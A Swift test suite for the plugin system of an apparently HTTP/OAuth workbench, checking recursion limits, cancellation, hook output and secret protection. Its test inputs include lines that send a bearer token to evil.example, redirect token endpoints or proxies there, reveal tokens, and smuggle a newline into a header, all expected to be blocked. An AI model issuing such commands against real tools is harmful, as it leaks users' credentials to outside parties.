import Answers
import BenchSupport
import Diagnostics
import Foundation
import HTTPMessage
import JSONKit
import Plugins
import Script
import Synchronization
import TestSupport
import Testing

@testable import Workbench

/// Process plugins that ask, are interrupted, or say more than anybody wants to read.
@Suite struct PluginCallTests {
    /// It waits for what it has asked for, and would never answer.
    @Test func aPluginMayNotRunItself() async throws {
        let bench = await Bench([.json([:])])
        let line = "answer({'value': ask('keyway/run', line=message['params']['operands']['line'])})"
        try await bench.addedProcess(line, commands: ["p-run", "p-browser"])
        for asked in ["p-run get", "authorize --browser p-browser"] {
            #expect(await bench.run("p-run '\(asked)'") == [])
            let answer = await bench.display.answers.compactMap(\.json).last
            #expect(answer?["error"]?["data"] == "plugin-recursion", "\(asked): \(answer?.text() ?? "")")
        }
        #expect(await bench.run("p-run 'get /x --no-token'") == [])
        #expect(bench.transport.requests.count == 1)
        await bench.workbench.endPlugins()
    }

    @Test func whoIgnoresCtrlCIsStartedAnewAndTheUserIsTold() async throws {
        let log = PluginLog()
        let time = ManualTime()
        let bench = await Bench(change: {
            $0.pluginLog = { log.add($0) }
            $0.pluginLimits.clock = PluginClock(time)
        })
        let body = """
            print('working', file=sys.stderr, flush=True)
            if message['params']['operands'].get('line') == 'sleep': time.sleep(600)
            answer({'value': 7})
            """
        try await bench.addedProcess(body)
        let workbench = bench.workbench
        let call = Task { await workbench.run(ScriptSource(.commandLine, text: "p-run sleep")).map(\.code) }
        try await wait(until: "the plugin works") { !log.lines.isEmpty }
        call.cancel()
        #expect(await call.value == ["interrupted"])
        time.advance(by: .milliseconds(PluginLimits().cancel))
        #expect(await bench.run("p-run") == [])
        #expect(await bench.display.answers.compactMap(\.json).last == 7)
        #expect(log.lines.contains { $0.hasSuffix("after it was told to cancel, and was ended; it is started anew") })
        await bench.workbench.endPlugins()
    }

    /// Its `ask` gets an error, which it can pass on.
    @Test func ctrlCAtAQuestionEndsTheQuestion() async throws {
        let isAsked = Mutex(false)
        let bench = await Bench(change: {
            $0.ask = { _ in
                isAsked.withLock { $0 = true }
                await untilCancelled()
                return nil
            }
        })
        let body = """
            if message['params']['operands'].get('line') == 'last': answer({'value': said}); continue
            said = ask('keyway/prompt', text='which?')
            answer({})
            """
        try await bench.addedProcess(body)
        let workbench = bench.workbench
        let call = Task { await workbench.run(ScriptSource(.commandLine, text: "p-run")).map(\.code) }
        try await wait(until: "the user is asked") { isAsked.withLock { $0 } }
        call.cancel()
        #expect(await call.value == ["interrupted"])
        #expect(await bench.run("p-run last") == [])
        #expect(await bench.display.answers.compactMap(\.json).last?["error"]?["data"] == "interrupted")
        await bench.workbench.endPlugins()
    }

    /// What was asked for is one answer; what hooks do beside it is said elsewhere.
    @Test func hooksAnswerNothingOnStandardOutput() async throws {
        let log = PluginLog()
        let bench = await Bench(
            [.json(["from": "hook"]), .json(["from": "user"])],
            change: {
                $0.pluginLog = { log.add($0) }
            })
        try await bench.added(
            """
            plugin p 1.0.0
            on request
              get /hook
              annotate "looked"
            end
            """)
        let before = await bench.display.answers.count
        #expect(await bench.run("get /user") == [])
        let answers = await bench.display.answers
        #expect(answers.count == before + 1)
        #expect(answers.last?.json?.text().contains("user") == true)
        #expect(log.lines.contains("p: looked"))
        #expect(log.lines.contains { $0.hasPrefix("p: {") && $0.contains("hook") })
    }

    // MARK: Secrets

    /// A mask that it leaves alone becomes the secret again, but only for whom the request was meant.
    @Test(arguments: [
        ("https://evil.example/x", ["plugin-masked"]), ("http://api.example/x", ["plugin-masked"]),
        ("https://api.example/other", []),
    ])
    func hooksTakeNoSecretElsewhere(url: String, failures: [String]) async throws {
        let hooks = ["plugin p 1.0.0\non request\n  change --url \(url)\nend\n", "process"]
        for hook in hooks {
            let bench = await Bench([.tokens, .json([:]), .json([:])])
            #expect(await bench.run(Bench.ready + "authorize\nexchange") == [])
            if hook == "process" {
                let body =
                    "q = message['params']['request']; q['url'] = '\(url)'; answer({'action': 'replace', 'request': q})"
                try await bench.addedProcess(body, hooks: "['request']")
            } else {
                try await bench.added(hook)
            }
            let before = bench.transport.requests.count
            #expect(await bench.run("get /x") == failures)
            #expect(bench.transport.requests.count == before + (failures.isEmpty ? 1 : 0))
            #expect(await bench.run("get /x --no-token") == [])
            #expect(bench.transport.requests.last?.url == url)
            await bench.workbench.endPlugins()
        }
    }

    @Test func whatAPluginRunsTakesNoSecretElsewhere() async throws {
        for (needs, data) in [
            ("[]", JSON("plugin-masked")), ("[{'secret': 'access_token', 'reason': 'to'}]", JSON?.none),
        ] {
            let bench = await Bench([.tokens, .json([:]), .json([:])])
            #expect(await bench.run(Bench.ready + "authorize\nexchange") == [])
            let body = "answer({'value': ask('keyway/run', line=message['params']['operands']['line'])})"
            try await bench.addedProcess(body, needs: needs)
            #expect(await bench.run("p-run 'get https://evil.example/ --token 1'") == [])
            let answer = await bench.display.answers.compactMap(\.json).last
            #expect(answer?["error"]?["data"] == data, "\(answer?.text() ?? "")")
            #expect(bench.transport.requests.last?.url.hasPrefix("https://evil.example") == (data == nil))
            #expect(await bench.run("p-run 'get /x'") == [])
            #expect(bench.transport.requests.last?.headers["Authorization"] == "Bearer access-token-1")
            await bench.workbench.endPlugins()
        }
    }

    /// Nor does a plugin move the place where secrets go, or take them through a proxy or to whom nobody has verified.
    @Test(arguments: [
        "provider set token_endpoint=https://evil.example/token", "provider set base_url=https://evil.example",
        "provider add mine base_url=https://evil.example", "provider add github base_url=https://evil.example",
        "provider discover https://evil.example --as mine", "provider remove mine", "session import stolen.json",
        "get /x --proxy http://evil.example", "get /x --insecure", "refresh --cacert evil.pem", "token show --reveal",
    ])
    func whatSaysWhereSecretsGoIsTheUsers(line: String) async throws {
        let bench = await Bench([.tokens])
        #expect(await bench.run(Bench.ready + "authorize\nexchange") == [])
        _ = await bench.run("provider add mine base_url=https://api.example")
        let body = "answer({'value': ask('keyway/run', line=message['params']['operands']['line'])})"
        try await bench.addedProcess(body)
        let count = bench.transport.requests.count
        #expect(await bench.run("p-run '\(line)'") == [])
        let answer = await bench.display.answers.compactMap(\.json).last
        #expect(answer?["error"]?["data"] == "plugin-line", "\(answer?.text() ?? "")")
        #expect(bench.transport.requests.count == count)
        #expect(await bench.run("p-run 'provider add another base_url=https://other.example'") == [])
        #expect(await bench.display.answers.compactMap(\.json).last?["error"] == nil)
        await bench.workbench.endPlugins()
    }

    /// Nor does a hook of a script, which nobody has typed.
    @Test(arguments: [
        ("get https://evil.example/ --token 1", "plugin-masked"), ("get /x --proxy http://evil.example", "plugin-line"),
        ("provider set base_url=https://evil.example", "plugin-line"), ("token show --reveal", "plugin-line"),
    ])
    func hooksOfScriptsSendNoSecretElsewhere(line: String, code: String) async throws {
        let bench = await Bench([.tokens, .json([:])])
        #expect(await bench.run(Bench.ready + "authorize\nexchange") == [])
        try await bench.added("plugin p 1.0.0\ndefine p-go\n  \(line)\nend\non request\n  p-go\nend\n")
        let count = bench.transport.requests.count
        #expect(await bench.run("get /x") == [code])
        #expect(bench.transport.requests.count == count)
    }

    /// Who made a request that cannot be sent is named.
    @Test(arguments: ["--method 'A B'", "--url nonsense", "'X-A:a\\nB: c'"])
    func hooksThatMakeNoRequestAreNamed(change: String) async throws {
        let bench = await Bench([.json([:])])
        let written = change.hasPrefix("'X") ? "X-A:\"a\\nB: c\"" : change
        try await bench.added("plugin p 1.0.0\non request\n  change \(written)\nend\n")
        #expect(await bench.run("get /x") == ["plugin-nonsense"])
        #expect(bench.transport.requests.isEmpty)
    }

    // MARK: Completion

    @Test func candidatesMeanThemselves() async throws {
        let bench = await Bench()
        try await bench.added(
            """
            plugin p 1.0.0
            complete order number {{numbers}}
            define order number
              set ordered = {{number}}
            end
            """)
        let odd = ["{{env.HOME}}", "it's", "a b", "a|b", "x\"y", "c\\d", "it's {{a}}"]
        for (index, text) in odd.enumerated() {
            #expect(await bench.run("set numbers:=\(JSON([JSON(text)]).text().quotedLiterally)") == [])
            let written = try #require(await bench.texts("order ").first)
            #expect(
                await bench.run("order \(written)\nexpect {{ordered}} == {{numbers | nth 0}}") == [],
                "\(index): \(written)")
        }
        let many = JSON((0..<500).map { JSON("n\($0)") }).text()
        #expect(await bench.run("set numbers:=\(many.quotedLiterally)") == [])
        #expect(await bench.texts("order ").count == 200)
        #expect(await bench.texts("order n49").count == 11)
    }
}

extension String {
    /// In single quotes, whatever it holds of them left to JSON's own escapes.
    fileprivate var quotedLiterally: String { "'\(replacing("'", with: "\\u0027"))'" }
}
